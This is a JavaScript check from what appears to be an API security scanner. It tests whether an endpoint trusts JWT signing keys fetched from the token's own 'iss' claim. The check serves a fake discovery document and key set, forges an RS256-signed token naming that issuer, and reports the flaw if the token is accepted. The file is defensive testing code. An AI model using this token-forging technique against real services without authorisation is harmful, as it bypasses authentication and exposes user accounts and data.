/**
 * jwt.jwks_issuer_injection — the endpoint locates the verification keys from the token's own `iss`: it fetches
 * `<iss>/.well-known/openid-configuration` (its `jwks_uri`) or `<iss>/.well-known/jwks.json` for whatever issuer the
 * token names, with no allowlist of trusted issuers, so a token naming the attacker's issuer and signed with the
 * attacker's key verifies (RFC 8725 §3.8: the key must belong to an issuer the recipient trusts; OpenID Connect
 * Discovery §4.3: the issuer must be the one configured).
 * Gatehouse addition (docs/architecture.md §2.4); scored like jwt.jku_injection (9.3, CWE-346, CAPEC-194): the same key-location
 * trust, through the payload instead of the header.
 *
 * Request: 1, the original claims (exp/nbf refreshed) with `iss` set to a callback the scanner serves for the duration
 * of the check — its discovery document (issuer = that URL, jwks_uri next to it) and its key set at both usual paths
 * — signed RS256 with the scanner's throwaway key, key-locating header parameters removed. The callback binds
 * 127.0.0.1, so the check is skipped for non-loopback targets unless `ctx.options.callbackHost` names an address of
 * this machine the target can reach.
 * Verdict: failed when auth.baseline's rule calls the response accepted and the target fetched the scanner's discovery
 * document or key set; accepted without any fetch is a token whose signature is not checked at all (jwt.not_verified's
 * finding, not this one), logged only.
 */
import { defineCheck } from '../scanner/api.js';
import { attackAccepted, requireProtectedEndpoint } from './support/auth-baseline-facts.js';
import { callbackHostOption, isLoopback, serveResources } from './support/callback-server.js';
import { forgedRsaToken, newScannerKey } from './support/forged-rsa-token.js';
import { carriesJwt, operationJwt } from './support/jwt-credential.js';
import { CALLBACK_HOST } from './support/shared-options.js';
import { tokenVerifier } from './support/token-verifier.js';

const ISSUE = 'broken_authentication.jwks_issuer_injection';
const DISCOVERY = '.well-known/openid-configuration';

export default defineCheck({
  id: 'jwt.jwks_issuer_injection',
  name: 'JWT Issuer JWKS Injection',
  issues: [
    {
      id: ISSUE,
      name: "JWT keys are fetched from the token's own issuer",
      url: 'https://www.rfc-editor.org/rfc/rfc8725#section-3.8',
      cvss: { version: 4.0, vector: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:N/SC:N/SI:N/SA:N', score: 9.3 },
      classifications: {
        owasp: 'API2:2023 Broken Authentication',
        cwe: 'CWE-346: Origin Validation Error',
        capec: 'CAPEC-194: Fake the Source of Data',
      },
    },
  ],
  options: [CALLBACK_HOST],
  dependsOn: ['auth.baseline'],
  sharedVerdict: tokenVerifier,
  appliesTo: carriesJwt,
  async run(ctx) {
    const jwt = operationJwt(ctx);
    if (!jwt.claims) return ctx.skip('the token carries no JSON claims to name an issuer in');
    const host = callbackHostOption(ctx.options);
    if (!host && !isLoopback(ctx.operation.url))
      return ctx.skip('the target cannot reach a loopback callback (set callbackHost to an address it can reach)');
    const facts = requireProtectedEndpoint(ctx);
    const key = await newScannerKey();
    const keySet = JSON.stringify({
      keys: [{ ...key.publicKey.export({ format: 'jwk' }), kid: key.kid, alg: 'RS256', use: 'sig' }],
    });
    const json = 'application/json';
    const issuer = await serveResources(
      [
        {
          name: DISCOVERY,
          contentType: json,
          body: (base) =>
            JSON.stringify({
              issuer: base,
              jwks_uri: `${base}/jwks.json`,
              id_token_signing_alg_values_supported: ['RS256'],
            }),
        },
        { name: 'jwks.json', contentType: json, body: keySet },
        { name: '.well-known/jwks.json', contentType: json, body: keySet },
      ],
      { host },
    );
    try {
      const response = await ctx.http.send({ credential: forgedRsaToken(jwt, key, {}, { iss: issuer.base }) });
      const fetched = issuer.fetches();
      if (!attackAccepted(response, facts)) {
        if (fetched > 0) ctx.log.debug('the target fetched the scanner-named issuer but rejected the token');
        return;
      }
      if (fetched === 0)
        return ctx.log.debug(
          'a token of the scanner-named issuer was accepted without any fetch: the signature is not checked (jwt.not_verified)',
        );
      const what = issuer.fetches(DISCOVERY) > 0 ? 'its discovery document and key set' : 'its key set';
      ctx.report(ISSUE, {
        detail: `a token whose iss names a scanner-served issuer, signed with the scanner's key, is accepted (${response.status}); the target fetched ${what} (${fetched} request(s))`,
        attempt: response,
      });
    } finally {
      await issuer.close();
    }
  },
});
